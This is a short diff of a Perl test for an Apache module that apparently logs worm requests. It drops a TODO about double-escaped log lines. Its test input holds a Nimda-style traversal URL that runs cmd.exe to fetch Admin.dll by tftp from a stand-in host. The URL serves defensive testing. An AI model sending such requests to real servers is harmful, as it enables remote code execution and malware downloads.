@@ -92,9 +92,6 @@ sub send_line {
     my($r) = ($acc // '') =~ /"([^"]*)"/;
     my($wr) = grep { /WR00004: / } log_lines_since('error_log', $eoff);
     my($e) = ($wr // '') =~ /WR00004: .*?, answered 404: (.*)$/;
-    # Module bug, reported to the lead: log_line() in mod_wormreply.c runs
-    # ap_escape_logitem() and httpd escapes the message again.
-    local our $TODO = 'mod_wormreply.c log_line() escapes twice';
     is $e, $r, 'WR00004 shows the request line escaped once, as %r does';
 }
 for my $t ('/scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20192.0.2.1%20GET%20Admin.dll%20c:\\Admin.dll',
